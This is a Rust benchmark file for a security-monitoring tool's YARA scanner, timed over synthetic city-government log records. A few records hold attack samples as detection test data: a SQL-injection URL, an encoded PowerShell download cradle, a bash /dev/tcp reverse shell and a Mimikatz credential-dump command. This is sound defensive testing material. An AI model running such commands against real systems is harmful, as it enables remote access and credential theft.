#![allow(missing_docs)] // criterion_group! generates an undocumented function

//! YARA scanning throughput: citysoc's per-event scanner against plain yara-x scanning the same
//! raw bytes as one buffer, with the city rules (`rules/yara`).
//!
//! The event mix is 1,000 events built from realistic records of the city's sources (nginx
//! access, Sysmon and Security JSON, auditd, FortiGate, sshd, CEF), about 3% of them
//! malicious. Throughput is counted in raw record bytes for every variant, so the numbers
//! compare the cost of handling the same input.

use std::hint::black_box;
use std::path::PathBuf;

use citysoc_collector::{Decoder, Event, InputFormat, ParseContext};
use citysoc_detect::{YaraConfig, YaraRuleSet, YaraScanner};
use criterion::{criterion_group, criterion_main, Criterion, Throughput};

/// The allocator the `citysoc` binary runs with (see `src/main.rs`), so that allocation costs
/// here (pieces, alerts, yara-x's own) are those of production, for the peer as for ours.
#[global_allocator]
static ALLOCATOR: citysoc_alloc::Allocator = citysoc_alloc::Allocator;

const EVENTS: usize = 1_000;

/// A realistic record of one of the city's sources, varied by `index`.
fn record(index: usize) -> String {
    let host = index % 250 + 1;
    let user = [
        "nguyenvana",
        "tranthib",
        "lequangc",
        "phamthid",
        "svc_backup",
    ][index % 5];
    match index % 10 {
        0 | 1 => format!(
            "203.0.113.{host} - - [22/Nov/2026:08:{:02}:{:02} +0700] \"GET /dich-vu-cong/tra-cuu-ho-so?ma=HS2026-{index:06}&lang=vi HTTP/1.1\" 200 {} \"https://dichvucong.example.gov.vn/\" \"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36\"",
            index % 60,
            (index * 7) % 60,
            4000 + index
        ),
        2 => format!(
            "{{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"Hostname\":\"PC-KT-{host:03}.ubnd-q3.local\",\"EventTime\":\"2026-11-22 08:30:12\",\"Image\":\"C:\\\\Program Files\\\\Microsoft Office\\\\root\\\\Office16\\\\EXCEL.EXE\",\"CommandLine\":\"\\\"C:\\\\Program Files\\\\Microsoft Office\\\\root\\\\Office16\\\\EXCEL.EXE\\\" /dde \\\"D:\\\\KeToan\\\\BaoCao_{index}.xlsx\\\"\",\"ParentImage\":\"C:\\\\Windows\\\\explorer.exe\",\"User\":\"UBND-Q3\\\\{user}\",\"Hashes\":\"SHA256=3F1C2A9E0B5D4E6F7A8B9C0D1E2F3A4B5C6D7E8F9A0B1C2D3E4F5A6B7C8D{:04X}\"}}",
            index
        ),
        3 => format!(
            "{{\"EventID\":4624,\"Channel\":\"Security\",\"Hostname\":\"DC-01.ubnd-q3.local\",\"EventTime\":\"2026-11-22 08:31:00\",\"TargetUserName\":\"{user}\",\"TargetDomainName\":\"UBND-Q3\",\"LogonType\":3,\"IpAddress\":\"10.3.{}.{host}\",\"IpPort\":\"{}\",\"AuthenticationPackageName\":\"Kerberos\",\"WorkstationName\":\"PC-KT-{host:03}\"}}",
            index % 20,
            49000 + index
        ),
        4 => format!(
            "<189>date=2026-11-22 time=08:02:{:02} devname=\"FG100F-QUAN1\" devid=\"FG100FTK22001234\" logid=\"0000000013\" type=\"traffic\" subtype=\"forward\" level=\"notice\" vd=\"root\" srcip=10.1.20.{host} srcport={} srcintf=\"lan\" dstip=192.0.2.{} dstport=443 dstintf=\"wan1\" proto=6 action=\"accept\" policyid=7 service=\"HTTPS\" sentbyte={} rcvdbyte={} app=\"HTTPS.BROWSER\"",
            index % 60,
            40000 + index,
            index % 200,
            1000 + index * 3,
            20000 + index * 11
        ),
        5 => format!("<38>Nov 22 08:20:{:02} gis-app-01 sshd[{}]: Accepted publickey for {user} from 10.2.0.{host} port {} ssh2: ED25519 SHA256:Zx3b9vVq0mC2pJ1eW8yK5rT7uH4nL6sA0dF2gH{index:04}", index % 60, 20000 + index, 40000 + index),
        6 => format!(
            "type=SYSCALL msg=audit(1763775{index:03}.123:{}): arch=c000003e syscall=59 success=yes exit=0 a0=55e4a1 a1=55e4b2 a2=55e4c3 a3=0 items=2 ppid=20310 pid={} auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=12 comm=\"ls\" exe=\"/usr/bin/ls\" key=\"exec\"",
            40000 + index,
            21000 + index
        ),
        7 => format!("<134>Nov 22 08:40:{:02} sw-core-01 CEF:0|CitySwitch|CoreFW|3.1|100|Connection allowed|3|src=10.3.1.{host} dst=10.4.0.{} dpt=445 act=allowed suser={user} cs1Label=zone cs1=thu-duc", index % 60, index % 200),
        8 => format!(
            "10.8.0.{host} - - [22/Nov/2026:09:{:02}:{:02} +0700] \"POST /api/v1/ho-so/{index}/dinh-kem HTTP/1.1\" 201 88 \"-\" \"okhttp/4.12.0\"",
            index % 60,
            index % 60
        ),
        _ => format!("<30>Nov 22 08:50:{:02} gis-app-01 systemd[1]: Started Session {index} of user {user}.", index % 60),
    }
}

/// The malicious records mixed in (every 33rd event).
fn malicious(index: usize) -> String {
    match index % 4 {
        0 => "198.51.100.99 - - [22/Nov/2026:08:10:03 +0700] \"GET /dich-vu-cong/tra-cuu-ho-so?ma=1'%20UNION%20SELECT%20username,password%20FROM%20users-- HTTP/1.1\" 500 312 \"-\" \"sqlmap/1.8.2#stable (https://sqlmap.org)\"".to_owned(),
        1 => "{\"EventID\":4688,\"Channel\":\"Security\",\"Hostname\":\"SRV-MC-02.motcua.local\",\"EventTime\":\"2026-11-22 08:31:00\",\"NewProcessName\":\"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe\",\"CommandLine\":\"powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcALwBhAC4AcABzADEAJwApAA==\",\"SubjectUserName\":\"svc_motcua\"}".to_owned(),
        2 => "type=EXECVE msg=audit(1763775000.123:40121): argc=3 a0=\"bash\" a1=\"-c\" a2=\"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\"".to_owned(),
        _ => "{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"Hostname\":\"PC-KT-017.ubnd-q3.local\",\"EventTime\":\"2026-11-22 08:30:12\",\"Image\":\"C:\\\\Users\\\\ketoan\\\\AppData\\\\Local\\\\Temp\\\\m.exe\",\"CommandLine\":\"m.exe \\\"privilege::debug\\\" \\\"sekurlsa::logonpasswords\\\" exit\",\"User\":\"UBND-Q3\\\\ketoan\"}".to_owned(),
    }
}

fn events() -> Vec<Event> {
    let context = ParseContext::new("file").with_agency("quan-3");
    let mut decoder = Decoder::new(InputFormat::Auto, context);
    let mut events = Vec::with_capacity(EVENTS);
    for index in 0..EVENTS {
        let line = if index % 33 == 32 {
            malicious(index / 33)
        } else {
            record(index)
        };
        decoder.decode(line.as_bytes(), &mut events);
    }
    decoder.finish(&mut events);
    events
}

fn rules() -> YaraRuleSet {
    let path = PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../rules/yara"));
    match YaraRuleSet::load(&[path]) {
        Ok((set, problems)) => {
            for problem in problems.iter().filter(|problem| !problem.warning) {
                eprintln!("{problem}");
            }
            set
        }
        Err(error) => panic!("rules/yara: {error}"),
    }
}

fn bench_yara(criterion: &mut Criterion) {
    let rules = rules();
    let events = events();
    let raw_total: usize = events.iter().map(|event| event.raw_bytes().len() + 1).sum();
    let mut concatenated = Vec::with_capacity(raw_total);
    for event in &events {
        concatenated.extend_from_slice(&event.raw_bytes());
        concatenated.push(b'\n');
    }

    // Sanity: the scanner finds the malicious events, batched or not, with the same alerts.
    let config = YaraConfig::default();
    let mut scanner = YaraScanner::new(&rules, &config);
    let alerts = scanner.scan_events(&events);
    let mut one_by_one = YaraScanner::new(&rules, &config);
    let alerts_one_by_one: Vec<_> = events
        .iter()
        .flat_map(|event| one_by_one.scan_event(event))
        .collect();
    assert_eq!(alerts, alerts_one_by_one);
    eprintln!(
        "yara bench: {} events, {} raw bytes, {} rules, {} alerts",
        events.len(),
        raw_total,
        rules.len(),
        alerts.len()
    );
    eprintln!("  batch stats: {:?}", scanner.stats());
    eprintln!("  one-by-one stats: {:?}", one_by_one.stats());
    let raw_only_config = YaraConfig {
        targets: vec!["raw".into()],
        decode_base64: false,
        ..YaraConfig::default()
    };
    let mut raw_only = YaraScanner::new(&rules, &raw_only_config);
    let raw_only_alerts = raw_only.scan_events(&events).len();
    eprintln!(
        "  raw-only: {raw_only_alerts} alerts, stats: {:?}",
        raw_only.stats()
    );

    if let Ok(variant) = std::env::var("CITYSOC_YARA_PROFILE") {
        profile_loop(
            &variant,
            &rules,
            &events,
            &concatenated,
            &config,
            &raw_only_config,
        );
        return;
    }

    interleaved(&rules, &events, &concatenated, &config, &raw_only_config);

    let mut group = criterion.benchmark_group("yara");
    group.throughput(Throughput::Bytes(raw_total as u64));
    group.bench_function("yara_x_one_buffer", |bencher| {
        let mut scanner = yara_x::Scanner::new(rules.yara_rules());
        bencher.iter(|| {
            let results = scanner
                .scan(black_box(&concatenated))
                .map(|results| results.matching_rules().len());
            black_box(results.unwrap_or_default())
        });
    });
    group.bench_function("yara_x_per_raw_record", |bencher| {
        let mut scanner = yara_x::Scanner::new(rules.yara_rules());
        bencher.iter(|| {
            let mut matches = 0;
            for event in &events {
                let raw = event.raw_bytes();
                matches += scanner
                    .scan(black_box(&raw))
                    .map(|results| results.matching_rules().len())
                    .unwrap_or_default();
            }
            black_box(matches)
        });
    });
    group.bench_function("citysoc_scan_events_batch", |bencher| {
        let mut scanner = YaraScanner::new(&rules, &config);
        bencher.iter(|| black_box(scanner.scan_events(black_box(&events)).len()));
    });
    group.bench_function("citysoc_scan_events_raw_only", |bencher| {
        // Only the raw record, nothing decoded: per-event alerts over exactly the bytes that
        // `yara_x_one_buffer` scans.
        let mut scanner = YaraScanner::new(&rules, &raw_only_config);
        bencher.iter(|| black_box(scanner.scan_events(black_box(&events)).len()));
    });
    group.bench_function("citysoc_scan_event", |bencher| {
        let mut scanner = YaraScanner::new(&rules, &config);
        bencher.iter(|| {
            let mut alerts = 0;
            for event in &events {
                alerts += scanner.scan_event(black_box(event)).len();
            }
            black_box(alerts)
        });
    });
    group.bench_function("citysoc_scan_event_no_prefilter", |bencher| {
        let config = YaraConfig {
            prefilter: false,
            ..YaraConfig::default()
        };
        let mut scanner = YaraScanner::new(&rules, &config);
        bencher.iter(|| {
            let mut alerts = 0;
            for event in &events {
                alerts += scanner.scan_event(black_box(event)).len();
            }
            black_box(alerts)
        });
    });
    group.finish();

    criterion.bench_function("yara/scanner_new", |bencher| {
        bencher.iter(|| black_box(YaraScanner::new(&rules, &config)).stats().events);
    });
}

/// The peer and our two batched variants timed round by round, alternating, with the median
/// of each: on a shared machine the load changes between criterion's groups (seconds apart),
/// while alternating rounds see the same load, so these ratios are the steadier reading. Five
/// blocks of rounds, each printed, then the median of their ratios (one block can still catch a
/// burst of load).
fn interleaved(
    rules: &YaraRuleSet,
    events: &[Event],
    concatenated: &[u8],
    config: &YaraConfig,
    raw_only_config: &YaraConfig,
) {
    const ROUNDS: usize = 301;
    const BLOCKS: usize = 5;
    let mut peer = yara_x::Scanner::new(rules.yara_rules());
    let mut raw_only = YaraScanner::new(rules, raw_only_config);
    let mut default = YaraScanner::new(rules, config);
    let mib = concatenated.len() as f64 / (1024.0 * 1024.0);
    let mut ratios = [Vec::new(), Vec::new()];
    for _ in 0..BLOCKS {
        let mut times = [Vec::new(), Vec::new(), Vec::new()];
        for _ in 0..ROUNDS {
            let start = std::time::Instant::now();
            let results = peer.scan(black_box(concatenated));
            black_box(results.map(|results| results.matching_rules().len()).ok());
            times[0].push(start.elapsed());
            let start = std::time::Instant::now();
            black_box(raw_only.scan_events(black_box(events)).len());
            times[1].push(start.elapsed());
            let start = std::time::Instant::now();
            black_box(default.scan_events(black_box(events)).len());
            times[2].push(start.elapsed());
        }
        let [peer_time, raw_only_time, default_time] = times.map(|mut samples| {
            samples.sort();
            samples[ROUNDS / 2].as_secs_f64()
        });
        ratios[0].push(100.0 * peer_time / raw_only_time);
        ratios[1].push(100.0 * peer_time / default_time);
        eprintln!(
            "  interleaved medians ({ROUNDS} rounds): peer {:.0} MiB/s; raw only {:.0} MiB/s ({:.0}%); default targets {:.0} MiB/s ({:.0}%)",
            mib / peer_time,
            mib / raw_only_time,
            100.0 * peer_time / raw_only_time,
            mib / default_time,
            100.0 * peer_time / default_time
        );
    }
    let [raw_only_ratio, default_ratio] = ratios.map(|mut values| {
        values.sort_by(f64::total_cmp);
        values[BLOCKS / 2]
    });
    eprintln!(
        "  interleaved, median of {BLOCKS} blocks: raw only {raw_only_ratio:.0}% of the peer; default targets {default_ratio:.0}%"
    );
}

/// For `perf record`: runs one variant alone for about five seconds (`CITYSOC_YARA_PROFILE` =
/// `peer`, `raw` or `default`), so its profile holds no setup and no other variant.
fn profile_loop(
    variant: &str,
    rules: &YaraRuleSet,
    events: &[Event],
    concatenated: &[u8],
    config: &YaraConfig,
    raw_only_config: &YaraConfig,
) {
    let mut peer = yara_x::Scanner::new(rules.yara_rules());
    let mut ours = YaraScanner::new(
        rules,
        if variant == "raw" {
            raw_only_config
        } else {
            config
        },
    );
    let start = std::time::Instant::now();
    let mut rounds = 0u64;
    while start.elapsed().as_secs() < 5 {
        if variant == "peer" {
            let results = peer.scan(black_box(concatenated));
            black_box(results.map(|results| results.matching_rules().len()).ok());
        } else {
            black_box(ours.scan_events(black_box(events)).len());
        }
        rounds += 1;
    }
    let per_round = start.elapsed().as_secs_f64() / rounds as f64;
    eprintln!(
        "  profile {variant}: {rounds} rounds, {:.0} MiB/s",
        concatenated.len() as f64 / (1024.0 * 1024.0) / per_round
    );
}

criterion_group!(benches, bench_yara);
criterion_main!(benches);
